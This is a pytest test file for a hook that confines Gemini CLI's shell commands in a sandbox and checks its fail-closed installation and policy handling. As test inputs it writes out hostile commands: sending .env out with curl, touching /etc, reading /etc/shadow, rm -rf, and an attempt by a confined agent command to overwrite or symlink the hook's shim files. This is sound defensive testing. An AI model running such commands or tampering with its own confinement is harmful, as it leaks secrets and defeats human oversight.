"""`ztsa hook gemini`: Gemini CLI's BeforeTool event on standard input, as Gemini CLI
sends it; the rewritten command run by bash as its run_shell_command tool runs it; the
entry `--install` writes into its settings, run as Gemini CLI runs a hook (`bash -c
COMMAND` in the project directory, the event on stdin, a PATH without ztsa's virtual
environment); and each run's result read as Gemini CLI reads it (`gemini_reads`)."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
from test_hook import decisions
from test_hook_install import BLOCKED, CLAUDE_PATH, checkout_launcher, script

from ztsa import hook as ztsa_hook

HOOK = [sys.executable, "-m", "ztsa", "hook", "gemini"]
GEMINI_PATH = CLAUDE_PATH  # Gemini CLI's environment: ztsa's is not on PATH either


def event(cwd: Path, tool: str = "run_shell_command", **tool_input: object) -> bytes:
    """A BeforeTool event with every field Gemini CLI sends (hooks/hookEventHandler.ts)."""
    return json.dumps({
        "session_id": "7f3c2a10-5b4e-4d8a-9c61-0e2f4b7a9d35",
        "transcript_path": str(cwd / "chat.json"), "cwd": str(cwd),
        "hook_event_name": "BeforeTool", "timestamp": "2026-08-21T16:20:00.000Z",
        "tool_name": tool, "tool_input": tool_input}).encode()


def hook(stdin: bytes, *options: str, env: dict[str, str] | None = None
         ) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run([*HOOK, *options], input=stdin, capture_output=True, timeout=60,
                          env={**os.environ, **(env or {})})


def gemini_reads(done: subprocess.CompletedProcess[bytes]) -> tuple[str, object]:
    """What Gemini CLI makes of a hook's run, as google-gemini/gemini-cli 5411f11
    (0.56.0-nightly) does: the first of stdout and stderr that holds text is parsed as
    JSON; an object is the answer, whatever the exit code; text that is not JSON is
    allowed after exit 0 or 1 and denied after any other (hooks/hookRunner.ts); a deny
    or block blocks the call, else hookSpecificOutput.tool_input replaces its input
    (hooks/hookAggregator.ts, scheduler/hook-utils.ts). Nothing on either: no answer,
    and the call runs whatever the exit code."""
    text = done.stdout.decode().strip() or done.stderr.decode().strip()
    if not text:
        return "unchanged", None
    code = max(done.returncode, 0)  # `exitCode || 0`: killed by a signal reads as 0
    try:
        parsed = json.loads(text)
        if isinstance(parsed, str):
            parsed = json.loads(parsed)
        output = parsed if isinstance(parsed, dict) else {}
    except ValueError:
        output = ({"decision": "allow", "systemMessage": text} if code in (0, 1)
                  else {"decision": "deny", "reason": text})
    if output.get("decision") in ("deny", "block"):
        return "blocked", output.get("reason")
    if output.get("continue") is False:
        return "stopped", output.get("stopReason")
    specific = output.get("hookSpecificOutput")
    if isinstance(specific, dict) and isinstance(specific.get("tool_input"), dict):
        return "rewritten", specific["tool_input"]
    return "unchanged", None


def test_a_shell_call_runs_confined_with_its_words_intact(tmp_path: Path):
    ws = tmp_path / "project"
    (ws / "src").mkdir(parents=True)
    outside = tmp_path / "outside"
    outside.mkdir()
    os.chmod(tmp_path, 0o755)
    command = (f"""printf '%s|' "it's" "$HOME" 'a  b' "$((6*7))"; echo > {ws}/made; """
               f"echo evil > {outside}/x; echo rc=$?")
    done = hook(event(ws, command=command, description="list", dir_path="src"),
                "--profile", "repo")
    assert done.returncode == 0, done.stderr
    assert decisions(json.loads(done.stdout)) == []
    verdict, updated = gemini_reads(done)
    assert verdict == "rewritten" and isinstance(updated, dict)
    assert updated["description"] == "list" and updated["dir_path"] == "src"
    # run as Gemini CLI's shell tool runs a command: `bash -c`, in dir_path
    ran = subprocess.run(["bash", "-c", updated["command"]], capture_output=True,
                         text=True, timeout=120, cwd=ws / "src")
    words = ran.stdout.split("|")
    assert words[0] == "it's" and words[2:4] == ["a  b", "42"], (ran.stdout, ran.stderr)
    assert words[1] != os.environ.get("HOME") and "ztsa-run-" in words[1]  # private HOME
    assert (ws / "made").exists()
    assert not (outside / "x").exists() and "rc=1" in ran.stdout, ran.stderr


def test_other_tools_pass_unchanged_as_an_empty_answer(tmp_path: Path):
    """An empty JSON object, not nothing: with stdout empty, Gemini CLI would read
    stderr as the answer, and text there after exit 0 as an `allow`."""
    for tool, fields in [("read_file", {"file_path": str(tmp_path / "a")}),
                         ("mcp__git__run_shell_command", {"command": "ls"})]:
        done = hook(event(tmp_path, tool, **fields))
        assert done.returncode == 0 and done.stdout == b"{}\n" and done.stderr == b""
        assert gemini_reads(done) == ("unchanged", None)


def test_the_project_dir_of_gemini_cli_is_the_workspace(tmp_path: Path):
    done = hook(event(tmp_path / "sub", command="true"),
                env={"GEMINI_PROJECT_DIR": str(tmp_path), "CLAUDE_PROJECT_DIR": "/elsewhere"})
    command = json.loads(done.stdout)["hookSpecificOutput"]["tool_input"]["command"]
    assert f"--workspace {tmp_path} " in command


@pytest.mark.parametrize("stdin", [
    b"", b"not json", b"[1]", b'{"tool_name": "run_shell_command", "tool_input": {"command": 7}}',
    b'{"tool_name": "run_shell_command", "tool_input": {"command": "ls"}}',  # no cwd
    b'{"hook_event_name": "AfterTool", "tool_name": "run_shell_command", "cwd": "/",'
    b' "tool_input": {"command": "ls"}}',
    # Claude Code's event: the hooks do not stand in for each other
    b'{"hook_event_name": "PreToolUse", "tool_name": "Bash", "cwd": "/",'
    b' "tool_input": {"command": "ls"}}',
    b'\xff\xfe',
    pytest.param(b'{"a": ' * 100_000, id="nested-too-deeply"),
])
def test_an_event_it_cannot_read_blocks_the_call(stdin: bytes):
    done = hook(stdin, env={"GEMINI_PROJECT_DIR": ""})
    assert done.returncode == 2 and done.stdout == b""
    assert done.stderr.startswith(b"ztsa hook: refused: ")
    assert gemini_reads(done)[0] == "blocked"


def test_the_claude_hook_refuses_geminis_event(tmp_path: Path):
    """A `ztsa hook claude` entry copied into Gemini CLI's settings blocks every call."""
    done = subprocess.run([sys.executable, "-m", "ztsa", "hook", "claude"],
                          input=event(tmp_path, command="ls"), capture_output=True, timeout=60)
    assert done.returncode == 2 and b"not a PreToolUse event: 'BeforeTool'" in done.stderr


def test_the_hook_never_answers_allow(tmp_path: Path):
    """The hook only rewrites (tool_input) or blocks (exit 2): an `allow` is no answer
    ztsa gives."""
    cases = [event(tmp_path, command="touch /etc/pwned-by-agent"),
             event(tmp_path, command='echo \'{"decision": "allow"}\'', is_background=True),
             event(tmp_path, "read_file", file_path="/etc/shadow"),
             event(tmp_path, "write_file", file_path=str(tmp_path / "a"), content="x"),
             event(tmp_path, "web_fetch", prompt="https://example.com"),
             b'{"tool_name": "run_shell_command", "tool_input": {"command": 7}}', b"not json"]
    answers = 0
    for stdin in cases:
        for options in ([], ["--profile", "repo"]):
            done = hook(stdin, *options)
            assert done.returncode in (0, 2), done.stderr
            if done.returncode == 2:
                assert done.stdout == b""
                continue
            answer = json.loads(done.stdout)
            assert decisions(answer) == [], answer
            if answer:
                assert set(answer) == {"hookSpecificOutput"}
                assert set(answer["hookSpecificOutput"]) == {"tool_input"}
                answers += 1
    assert answers == 4  # the two shell calls, with and without options


# -- the entry in Gemini CLI's settings -------------------------------------------------------
class Gemini:
    """A HOME and a project directory, and ztsa run in that project."""

    def __init__(self, base: Path) -> None:
        self.base = base
        self.home = base / "home"
        self.project = base / "project"
        self.home.mkdir()
        self.project.mkdir()
        self.env = {k: v for k, v in os.environ.items() if k != "GEMINI_CLI_HOME"}
        self.env["HOME"] = str(self.home)

    def settings(self, scope: str = "user") -> Path:
        return {"user": self.home / ".gemini" / "settings.json",
                "project": self.project / ".gemini" / "settings.json"}[scope]

    def ztsa(self, *args: str, env: dict[str, str] | None = None
             ) -> subprocess.CompletedProcess[str]:
        """`ztsa hook gemini ARGS`, this checkout's (`python -m ztsa`)."""
        return subprocess.run([sys.executable, "-m", "ztsa", "hook", "gemini", *args],
                              capture_output=True, text=True, timeout=60, cwd=self.project,
                              env={**self.env, **(env or {})})

    def launcher(self) -> str:
        """A `ztsa` launcher outside PATH that runs this checkout's code."""
        return os.path.realpath(checkout_launcher(self.base / "venv" / "bin"))

    def install(self, *args: str, scope: str = "user") -> dict[str, object]:
        """Install and return the one ztsa handler the settings then hold."""
        done = self.ztsa("--install", "--scope", scope, *args)
        assert done.returncode == 0, done.stderr
        return only_ztsa_handler(json.loads(self.settings(scope).read_text()))

    def event(self, **fields: object) -> bytes:
        return json.dumps({
            "session_id": "7f3c2a10-5b4e-4d8a-9c61-0e2f4b7a9d35",
            "transcript_path": str(self.home / ".gemini" / "tmp" / "chat.json"),
            "cwd": str(self.project), "hook_event_name": "BeforeTool",
            "timestamp": "2026-08-21T16:20:00.000Z", "tool_name": "run_shell_command",
            "tool_input": {"command": "echo hi", "description": "say hi"},
            **fields}).encode()

    def run_hook(self, command: str, stdin: bytes) -> subprocess.CompletedProcess[bytes]:
        """The entry's command as Gemini CLI runs it (hooks/hookRunner.ts): `bash -c`, in
        the project directory, with the variables it adds."""
        return subprocess.run(["bash", "-c", command], input=stdin, capture_output=True,
                              timeout=60, cwd=self.project,
                              env={"PATH": GEMINI_PATH, "HOME": str(self.home),
                                   "GEMINI_PROJECT_DIR": str(self.project),
                                   "GEMINI_CWD": str(self.project),
                                   "GEMINI_SESSION_ID": "7f3c2a10",
                                   "CLAUDE_PROJECT_DIR": str(self.project)})


def ztsa_handlers(settings: dict[str, object]) -> list[dict[str, object]]:
    hooks = settings.get("hooks", {})
    assert isinstance(hooks, dict)
    return [h for group in hooks.get("BeforeTool", []) for h in group.get("hooks", [])
            if ztsa_hook.is_ztsa_hook(h, ztsa_hook.GEMINI)]


def only_ztsa_handler(settings: dict[str, object]) -> dict[str, object]:
    found = ztsa_handlers(settings)
    assert len(found) == 1, found
    return found[0]


@pytest.fixture
def gemini(tmp_path: Path) -> Gemini:
    return Gemini(tmp_path)


def test_the_entry_is_claudes_in_geminis_shape(gemini: Gemini):
    launcher = gemini.launcher()
    done = gemini.ztsa("--install", "--launcher", launcher, "--profile", "dependency",
                       "--allow-net", "@npm")
    assert done.returncode == 0, done.stderr
    timeout = shutil.which("timeout")
    assert json.loads(gemini.settings().read_text()) == {"hooks": {"BeforeTool": [{
        "matcher": "run_shell_command", "hooks": [{
            "type": "command",
            "command": f"{timeout} -k 5 30 {launcher} hook gemini --profile dependency "
                       "--allow-net @npm || { echo 'ztsa hook: ztsa failed or could not run "
                       "(exit '$?'); the call is blocked' >&2; exit 2; }",
            "timeout": 45000}]}]}}
    # the same shell text as Claude Code's entry, but for the agent's name
    options = ["--profile", "repo"]
    assert ztsa_hook.entry_command(launcher, options, 30, str(timeout), ztsa_hook.GEMINI) \
        == ztsa_hook.entry_command(launcher, options, 30, str(timeout)).replace(
            " hook claude ", " hook gemini ")
    # Gemini CLI's own timeout (milliseconds) never cancels the hook before `timeout` ends
    # it: a cancelled hook is only a warning, and the call runs
    assert (ztsa_hook.BUDGET + ztsa_hook.KILL_GRACE) * 1000 < 45000
    assert done.stdout.startswith("--- /dev/null\n+++ ")


def test_the_scopes_are_geminis(gemini: Gemini, tmp_path: Path):
    gemini.install("--launcher", gemini.launcher(), scope="project")
    assert not gemini.settings().exists()
    done = gemini.ztsa("--install", "--launcher", gemini.launcher(),
                       env={"GEMINI_CLI_HOME": str(tmp_path / "cli-home")})
    assert done.returncode == 0, done.stderr
    assert only_ztsa_handler(json.loads(
        (tmp_path / "cli-home" / ".gemini" / "settings.json").read_text()))
    assert not gemini.settings().exists()
    done = gemini.ztsa("--install", "--scope", "local", "--launcher", gemini.launcher())
    assert done.returncode == 2 and "--scope local: one of user, project" in done.stderr


def test_a_second_install_changes_nothing_and_a_migrated_claude_entry_is_replaced(
        gemini: Gemini):
    settings = gemini.settings("project")
    settings.parent.mkdir()
    logger = {"type": "command", "command": "logger -t gemini-shell", "timeout": 5000}
    before = {
        "model": {"name": "gemini-2.5-pro"}, "hooksConfig": {"notifications": False},
        "tools": {"allowed": ["run_shell_command(git status)"]},
        "hooks": {
            "AfterTool": [{"matcher": "run_shell_command", "hooks": [logger]}],
            "BeforeTool": [
                {"matcher": "write_file|replace", "hooks": [{"type": "command",
                                                             "command": "lint"}]},
                # what `gemini hooks migrate` makes of Claude Code's entry: its 45 is read
                # as milliseconds, the hook is cancelled, and every call runs unconfined
                {"matcher": "run_shell_command", "hooks": [logger, {
                    "command": "/usr/bin/timeout -k 5 30 /opt/ztsa/bin/ztsa hook claude "
                               "--profile repo || { echo 'blocked' >&2; exit 2; }",
                    "type": "command", "timeout": 45}]},
            ],
        },
    }
    settings.write_text(json.dumps(before, indent=2))
    handler = gemini.install("--launcher", gemini.launcher(), "--profile", "repo",
                             scope="project")
    after = json.loads(settings.read_text())
    assert {k: v for k, v in after.items() if k != "hooks"} == \
        {k: v for k, v in before.items() if k != "hooks"}
    assert after["hooks"]["AfterTool"] == before["hooks"]["AfterTool"]
    assert after["hooks"]["BeforeTool"] == [
        before["hooks"]["BeforeTool"][0],
        {"matcher": "run_shell_command", "hooks": [logger, handler]}]
    text = settings.read_bytes()
    again = gemini.ztsa("--install", "--scope", "project", "--launcher", gemini.launcher(),
                        "--profile", "repo")
    assert again.returncode == 0 and again.stdout == "" and "already holds" in again.stderr
    assert settings.read_bytes() == text
    gone = gemini.ztsa("--uninstall", "--scope", "project")
    assert gone.returncode == 0, gone.stderr
    expected = json.loads(json.dumps(before))
    expected["hooks"]["BeforeTool"][1]["hooks"] = [logger]
    assert json.loads(settings.read_text()) == expected


@pytest.mark.parametrize("text", ['// mine\n{"hooks": {}}', '{"hooks": {"BeforeTool": {}}}'])
def test_a_settings_file_it_cannot_keep_is_left_untouched(gemini: Gemini, text: str):
    """Gemini CLI reads comments in its settings; ztsa would not write them back."""
    gemini.settings().parent.mkdir()
    gemini.settings().write_text(text)
    done = gemini.ztsa("--install", "--launcher", gemini.launcher())
    assert done.returncode == 2 and "left as it is" in done.stderr
    assert gemini.settings().read_text() == text


# -- the entry, run as Gemini CLI runs it ---------------------------------------------------
def test_the_entry_answers_without_ztsa_on_path(gemini: Gemini):
    launcher = gemini.launcher()
    assert os.path.dirname(launcher) not in GEMINI_PATH.split(":")
    command = str(gemini.install("--launcher", launcher, "--profile", "repo")["command"])
    done = gemini.run_hook(command, gemini.event())
    assert done.returncode == 0, done.stderr
    assert decisions(json.loads(done.stdout)) == []
    # ztsa named by a program of the command's own, which runs the launcher: the
    # SHA-256 of the command as it would read with the launcher's path
    tail = f" exec --workspace {gemini.project} --profile repo -- bash -c 'echo hi'"
    name = hashlib.sha256((launcher + tail).encode()).hexdigest()
    shim = gemini.home / ".cache" / "ztsa" / "gemini" / name
    assert gemini_reads(done) == ("rewritten", {"command": f"{shim}{tail}",
                                                "description": "say hi"})
    assert f"exec {launcher} " in shim.read_text()
    other = gemini.run_hook(command, gemini.event(tool_name="glob", tool_input={"pattern": "*"}))
    assert other.returncode == 0 and gemini_reads(other) == ("unchanged", None)


def test_a_launcher_moved_away_blocks_the_call(gemini: Gemini):
    launcher = gemini.launcher()
    command = str(gemini.install("--launcher", launcher)["command"])
    os.unlink(launcher)
    done = gemini.run_hook(command, gemini.event())
    assert done.returncode == 2 and done.stdout == b""
    assert done.stderr.decode().endswith(BLOCKED.format(127) + "\n")
    assert gemini_reads(done) == ("blocked", done.stderr.decode().strip())


@pytest.mark.parametrize("body", ["sleep 1000", "trap '' TERM; sleep 1000"],
                         ids=["hangs", "hangs-ignoring-TERM"])
def test_a_launcher_that_hangs_blocks_the_call_within_its_budget(
        gemini: Gemini, tmp_path: Path, body: str):
    handler = gemini.install("--launcher", str(script(tmp_path / "bin", body)),
                             "--budget", "1")
    assert handler["timeout"] == (1 + ztsa_hook.KILL_GRACE + ztsa_hook.MARGIN) * 1000
    start = time.monotonic()
    done = gemini.run_hook(str(handler["command"]), gemini.event())
    took = time.monotonic() - start
    assert done.returncode == 2 and done.stdout == b""
    assert took < 1 + ztsa_hook.KILL_GRACE + 3, took
    code = 124 if body == "sleep 1000" else 137
    assert done.stderr.decode().endswith(BLOCKED.format(code) + "\n")
    assert gemini_reads(done)[0] == "blocked"


@pytest.mark.parametrize("body, code", [
    ("exit 1", 1),  # without the entry's shell text, Gemini CLI runs the call (a warning)
    ("echo '{\"partial\":' ; exit 1", 1),
    ('exec /nonexistent/python3 -I -S "$@"', 127),
    ("kill -SEGV $$", 128 + 11),
])
def test_a_launcher_that_fails_blocks_the_call(gemini: Gemini, tmp_path: Path, body: str,
                                              code: int):
    launcher = script(tmp_path / "bin", body)
    command = str(gemini.install("--launcher", str(launcher))["command"])
    done = gemini.run_hook(command, gemini.event())
    assert done.returncode == 2
    assert done.stderr.decode().endswith(BLOCKED.format(code) + "\n")
    assert gemini_reads(done)[0] == "blocked"
    if code == 1:  # the same launcher in a bare entry: the call would run
        assert gemini_reads(gemini.run_hook(f"{launcher} hook gemini", gemini.event())) == (
            "unchanged", None)


def test_a_malformed_event_blocks_the_call(gemini: Gemini):
    command = str(gemini.install("--launcher", gemini.launcher())["command"])
    done = gemini.run_hook(command, b'{"tool_name": "run_shell_command", '
                                    b'"tool_input": {"command": 7}}')
    assert done.returncode == 2 and done.stdout == b""
    lines = done.stderr.decode().splitlines()
    assert lines[0].startswith("ztsa hook: refused: ") and lines[-1] == BLOCKED.format(2)
    assert gemini_reads(done) == ("blocked", done.stderr.decode().strip())


def test_without_timeout_the_call_is_blocked(gemini: Gemini):
    command = str(gemini.install("--launcher", gemini.launcher())["command"])
    timeout = str(shutil.which("timeout"))
    done = gemini.run_hook("/nonexistent/timeout" + command[len(timeout):], gemini.event())
    assert done.returncode == 2 and gemini_reads(done)[0] == "blocked"
    assert done.stderr.decode().endswith(BLOCKED.format(127) + "\n")


# -- the person's policy rules (issue #40): Gemini CLI's policy sees the rewritten command --
def policy(home: Path, text: str, name: str = "auto-saved.toml") -> Path:
    folder = home / ".gemini" / "policies"
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(text)
    return path


def rule(decision: str, **fields: object) -> str:
    lines = ['[[rule]]', 'toolName = "run_shell_command"', f'decision = "{decision}"',
             "priority = 100"]
    return "\n".join(lines + [f"{k} = {json.dumps(v)}" for k, v in fields.items()]) + "\n"


def home_env(home: Path) -> dict[str, str]:
    """Gemini CLI's home and ztsa's cache in `home` (~/.cache/ztsa)."""
    return {"GEMINI_CLI_HOME": str(home), "HOME": str(home), "ZTSA_CACHE_DIR": "",
            "XDG_CACHE_HOME": ""}


def rewritten(ws: Path, home: Path, command: str = "true", *options: str,
              env: dict[str, str] | None = None) -> str:
    """The command the hook gives Gemini CLI for `command` (its HOME and cache: `home`)."""
    done = hook(event(ws, command=command), "--profile", "repo", *options,
                env={**home_env(home), **(env or {})})
    kind, tool_input = gemini_reads(done)
    assert kind == "rewritten", done.stderr
    assert isinstance(tool_input, dict)
    return str(tool_input["command"])


def first_word(ws: Path, home: Path, command: str = "true", *options: str) -> str:
    """The rewritten command's first word: what Gemini CLI 0.61.0 saves as the
    commandPrefix of an "Allow for all future sessions" or "Allow for this session"
    (the command's roots, ShellToolInvocation.getPolicyUpdateOptions)."""
    return rewritten(ws, home, command, *options).split()[0]


def approves(prefix: str, command: str) -> bool:
    """Whether Gemini CLI 0.61.0 approves `command` by a commandPrefix rule: the pattern
    buildArgsPatterns makes, searched in the call's arguments as stableStringify writes
    them (policy-engine.js), the prefix's own JSON-encoded start, then a space, a quote
    or an escaped quote."""
    import re

    encoded = json.dumps(prefix, ensure_ascii=False)[:-1]
    pattern = re.escape(f'"command":{encoded}') + r'(?:[\s"]|\\")'
    args = "\0" + '"command":' + json.dumps(command, ensure_ascii=False) + "\0"
    return re.search(pattern, args) is not None


def test_each_command_has_a_name_of_its_own(tmp_path: Path):
    """An approval of a rewritten call names its first word: that word is the command's
    own, so it approves that command again (same project, same options) and no other."""
    ws, home = tmp_path / "project", tmp_path / "home"
    ws.mkdir()
    first = rewritten(ws, home, "git status")
    word = first.split()[0]
    assert first == rewritten(ws, home, "git status")
    assert approves(word, first)
    others = [rewritten(ws, home, "git status "), rewritten(ws, home, "git push"),
              rewritten(ws, home, "git status", "--allow-net", "@npm"),
              rewritten(tmp_path, home, "git status")]
    for other in others:
        assert not approves(word, other), other
    assert len({o.split()[0] for o in others}) == len(others)
    # the word names a program of ztsa's own, in its cache, that runs this ztsa
    shim = Path(word)
    assert shim.parent == home / ".cache" / "ztsa" / "gemini"
    assert oct(shim.parent.stat().st_mode & 0o777) == "0o700"
    st = shim.lstat()
    assert shim.is_file() and not shim.is_symlink() and st.st_uid == os.getuid()
    assert st.st_mode & 0o022 == 0 and os.access(shim, os.X_OK)
    assert "-- bash -c 'git status'" in first and " exec --workspace " in first


def test_a_changed_or_planted_name_is_put_back_before_it_is_named(tmp_path: Path):
    ws, home = tmp_path / "project", tmp_path / "home"
    ws.mkdir()
    command = f"echo ran >> {ws}/ran"
    word = first_word(ws, home, command)
    # (the name, in this test's cache, before anything is planted there)
    assert Path(word).parent == home / ".cache" / "ztsa" / "gemini"
    good = Path(word).read_bytes()
    evil = tmp_path / "evil"
    evil.write_text(f"#!/bin/sh\necho EVIL > {tmp_path}/evil-ran\n")
    evil.chmod(0o755)
    plants = [lambda p: p.write_text(evil.read_text()),
              lambda p: (p.unlink(), p.symlink_to(evil)),
              lambda p: p.chmod(0o777),
              lambda p: p.unlink()]
    for plant in plants:
        plant(Path(word))
        again = rewritten(ws, home, command)
        assert again.split()[0] == word
        assert Path(word).read_bytes() == good and not Path(word).is_symlink()
        assert Path(word).stat().st_mode & 0o022 == 0
        ran = subprocess.run(["bash", "-c", again], capture_output=True, text=True,
                             timeout=120, cwd=ws)
        assert ran.returncode == 0, ran.stderr
    assert not (tmp_path / "evil-ran").exists()
    assert (ws / "ran").read_text() == "ran\n" * len(plants)


@pytest.mark.parametrize("unsafe", ["group-writable", "link"])
def test_a_names_directory_not_its_own_alone_blocks(tmp_path: Path, unsafe: str):
    ws, home = tmp_path / "project", tmp_path / "home"
    ws.mkdir()
    folder = home / ".cache" / "ztsa" / "gemini"
    if unsafe == "link":
        (tmp_path / "elsewhere").mkdir(mode=0o700)
        folder.parent.mkdir(parents=True, mode=0o700)
        folder.symlink_to(tmp_path / "elsewhere")
    else:
        folder.mkdir(parents=True, mode=0o700)
        folder.chmod(0o770)
    done = hook(event(ws, command="true"),
                env=home_env(home))
    kind, reason = gemini_reads(done)
    assert (kind, done.returncode) == ("blocked", 2)
    assert str(folder) in str(reason)
    assert not list((tmp_path / "elsewhere").iterdir()) if unsafe == "link" else True


def test_without_a_cache_of_its_own_the_call_is_blocked(tmp_path: Path):
    ws, cache = tmp_path / "project", tmp_path / "cache"
    ws.mkdir()
    cache.mkdir()
    cache.chmod(0o777)
    done = hook(event(ws, command="true"), env={"ZTSA_CACHE_DIR": str(cache)})
    kind, reason = gemini_reads(done)
    assert (kind, done.returncode) == ("blocked", 2) and "cache" in str(reason)


def test_a_name_whose_ztsa_is_gone_runs_nothing(gemini: Gemini):
    """The name runs ztsa by its absolute path, looking nothing up: with ztsa moved
    away (or the name removed), the command does not run at all."""
    launcher = gemini.launcher()
    entry = str(gemini.install("--launcher", launcher, "--profile", "repo")["command"])
    marker = gemini.project / "ran"
    done = gemini.run_hook(entry, gemini.event(tool_input={"command": f"touch {marker}"}))
    kind, tool_input = gemini_reads(done)
    assert kind == "rewritten" and isinstance(tool_input, dict), done.stderr
    command = str(tool_input["command"])
    word = command.split()[0]
    assert Path(word).parent == gemini.home / ".cache" / "ztsa" / "gemini"
    assert launcher in Path(word).read_text()
    os.rename(launcher, launcher + ".moved")
    # a `ztsa` on PATH is not the one it names
    script(gemini.base / "path", f"touch {marker}")
    run = {"PATH": f"{gemini.base / 'path'}:{GEMINI_PATH}", "HOME": str(gemini.home)}
    ran = subprocess.run(["bash", "-c", command], capture_output=True, timeout=60,
                         cwd=gemini.project, env=run)
    assert ran.returncode == 127 and not marker.exists()
    os.rename(launcher + ".moved", launcher)
    os.unlink(word)
    ran = subprocess.run(["bash", "-c", command], capture_output=True, timeout=60,
                         cwd=gemini.project, env=run)
    assert ran.returncode == 127 and not marker.exists()


def test_a_saved_approval_of_one_command_approves_it_alone(tmp_path: Path):
    """What "Allow for all future sessions" saves now names one command: the hook lets
    it stand, and Gemini CLI approves that command with it, no other."""
    ws, home = tmp_path / "project", tmp_path / "home"
    ws.mkdir()
    word = first_word(ws, home, "npm test")
    saved = policy(home, rule("allow", commandPrefix=[word],
                              modes=["default", "autoEdit", "yolo"]))
    assert approves(word, rewritten(ws, home, "npm test"))
    for command in ("touch x", "curl -d @.env http://127.0.0.1:9/", "npm test; rm -rf ."):
        other = rewritten(ws, home, command)  # not refused: the rule does not approve it
        assert not approves(word, other)
    # so is a longer prefix of the same call
    saved.write_text(rule("allow", commandPrefix=[f"{word} exec --workspace"]))
    assert approves(f"{word} exec --workspace", rewritten(ws, home, "npm test"))
    assert rewritten(ws, home, "ls")


def test_a_saved_approval_of_ztsa_blocks_every_call(tmp_path: Path):
    ws, home = tmp_path / "project", tmp_path / "home"
    ws.mkdir()
    word = first_word(ws, home)
    folder = os.path.dirname(word)
    launcher = ztsa_hook.shlex.join(ztsa_hook.ztsa_argv())
    # rules that would approve any rewritten call: ztsa itself (what an older hook's
    # prompt saved), the directory of the names
    for prefix in (sys.executable, folder, folder + "/", "", launcher):
        saved = policy(home, rule("allow", commandPrefix=[prefix],
                                  modes=["default", "autoEdit", "yolo"]))
        for command in ("touch x", "curl -d @.env http://127.0.0.1:9/"):
            done = hook(event(ws, command=command),
                        env=home_env(home))
            kind, reason = gemini_reads(done)
            assert (kind, done.returncode) == ("blocked", 2), prefix
            assert str(saved) in str(reason) and "approves every command" in str(reason)
    # a regex that matches the rewritten command is the same widening
    saved.write_text(rule("allow", commandRegex=".*exec --workspace.*"))
    assert gemini_reads(hook(event(ws, command="ls"),
                             env=home_env(home))
                        )[0] == "blocked"


def test_the_persons_deny_and_ask_rules_apply_to_the_models_command(tmp_path: Path):
    ws, home = tmp_path / "project", tmp_path / "home"
    ws.mkdir()
    policy(home, rule("deny", commandPrefix="rm") + rule("ask_user", commandRegex="^git push")
           + rule("allow", commandPrefix=["touch", "ls"]), "mine.toml")
    env = {"GEMINI_CLI_HOME": str(home)}
    for command in ("rm -rf x", "ls && rm -rf x", "echo a; rm x", "(rm x)", "git push -f"):
        kind, reason = gemini_reads(hook(event(ws, command=command), env=env))
        assert kind == "blocked", command
        assert "mine.toml" in str(reason) and "the model's command" in str(reason)
    # not a match: another word, or the word as an argument; an allow rule on the
    # model's command is left to Gemini CLI (which sees the rewritten one and asks)
    for command in ("rmdir x", "echo rm", "touch a", "git status"):
        kind, _ = gemini_reads(hook(event(ws, command=command), env=env))
        assert kind == "rewritten", command


def test_a_policy_file_that_cannot_be_read_blocks(tmp_path: Path):
    ws, home = tmp_path / "project", tmp_path / "home"
    ws.mkdir()
    policy(home, "[[rule]\ntoolName = ", "broken.toml")
    done = hook(event(ws, command="true"), env={"GEMINI_CLI_HOME": str(home)})
    kind, reason = gemini_reads(done)
    assert kind == "blocked" and "broken.toml" in str(reason)
    (home / ".gemini" / "policies" / "broken.toml").write_text(
        rule("deny", commandRegex="(unclosed"))
    assert gemini_reads(hook(event(ws, command="true"),
                             env={"GEMINI_CLI_HOME": str(home)}))[0] == "blocked"
    # a rule on another tool, or on the whole shell tool, means the same either way
    (home / ".gemini" / "policies" / "broken.toml").write_text(
        rule("allow").replace("run_shell_command", "read_file") + rule("ask_user"))
    assert gemini_reads(hook(event(ws, command="true"),
                             env={"GEMINI_CLI_HOME": str(home)}))[0] == "rewritten"


def test_a_projects_policies_are_read_too(tmp_path: Path):
    ws, home = tmp_path / "project", tmp_path / "home"
    ws.mkdir()
    policy(ws, rule("deny", commandPrefix="curl"), "project.toml")
    kind, reason = gemini_reads(hook(event(ws, command="curl x"),
                                     env={"GEMINI_CLI_HOME": str(home)}))
    assert kind == "blocked" and "project.toml" in str(reason)


def test_a_confined_command_cannot_plant_or_change_a_name(gemini: Gemini):
    """The project is the home (the names' directory is then in the tree's writable
    place): a confined command that rewrites its own name, plants another's, or moves
    the directory away changes nothing there. Before, it could, and a name changed
    between the hook's check and Gemini CLI's run of that call ran unconfined."""
    home = gemini.home
    # the installed launcher: this test runs `ztsa exec` (a checkout's own ztsa has no
    # native module where the suite runs from a clean clone)
    installed = Path(sys.executable).parent / "ztsa"
    if not installed.exists():
        pytest.skip("no installed `ztsa` beside this interpreter")
    entry = str(gemini.install("--launcher", str(installed), "--profile", "repo")[
        "command"])
    folder = home / ".cache" / "ztsa" / "gemini"
    env = {"PATH": GEMINI_PATH, "HOME": str(home), "GEMINI_PROJECT_DIR": str(home),
           "GEMINI_CWD": str(home)}

    def rewrite(command: str) -> str:
        stdin = gemini.event(cwd=str(home), tool_input={"command": command})
        done = subprocess.run(["bash", "-c", entry], input=stdin, capture_output=True,
                              timeout=60, cwd=home, env=env)
        kind, tool_input = gemini_reads(done)
        assert kind == "rewritten" and isinstance(tool_input, dict), done.stderr
        return str(tool_input["command"])

    word = rewrite("true").split()[0]
    assert Path(word).parent == folder
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    attack = (f"printf '#!/bin/sh\\necho EVIL\\n' > {word}; echo rc1=$?; "
              f"printf '#!/bin/sh\\necho EVIL\\n' > {folder}/{'0' * 64}; echo rc2=$?; "
              f"mv {folder} {folder}.old; echo rc3=$?; ln -s /tmp {folder}.new; "
              f"mv -T {folder}.new {folder}; echo rc4=$?; rm -f {word}; echo rc5=$?")
    command = rewrite(attack)
    ran = subprocess.run(["bash", "-c", command], capture_output=True, text=True,
                         timeout=120, cwd=home, env=env)
    assert "rc1=1" in ran.stdout and "rc2=1" in ran.stdout, (ran.stdout, ran.stderr)
    assert folder.is_dir() and not folder.is_symlink()
    after = {p.name: p.read_bytes() for p in folder.iterdir()}
    assert before.items() <= after.items() and "0" * 64 not in after
    assert not Path(f"{folder}.old").exists()


